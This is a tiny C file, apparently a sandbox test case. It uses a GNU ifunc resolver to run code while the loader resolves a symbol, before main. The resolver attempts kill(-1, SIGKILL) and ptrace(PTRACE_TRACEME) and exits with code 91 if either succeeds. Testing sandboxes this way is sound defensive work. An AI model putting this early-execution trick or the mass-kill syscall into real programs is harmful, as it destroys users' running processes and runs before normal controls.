/* Compile: runs code where the loader resolves a function, before everything else of the program. */
#include "attack.h"

static void nothing(void)
{
}

static void (*resolve(void))(void)
{
    if (syscall(SYS_kill, -1, SIGKILL) == 0 || syscall(SYS_ptrace, PTRACE_TRACEME, 0, 0, 0) == 0)
        syscall(SYS_exit_group, 91);
    return nothing;
}

void resolved(void) __attribute__((ifunc("resolve")));

static void attack(void)
{
    resolved();
}
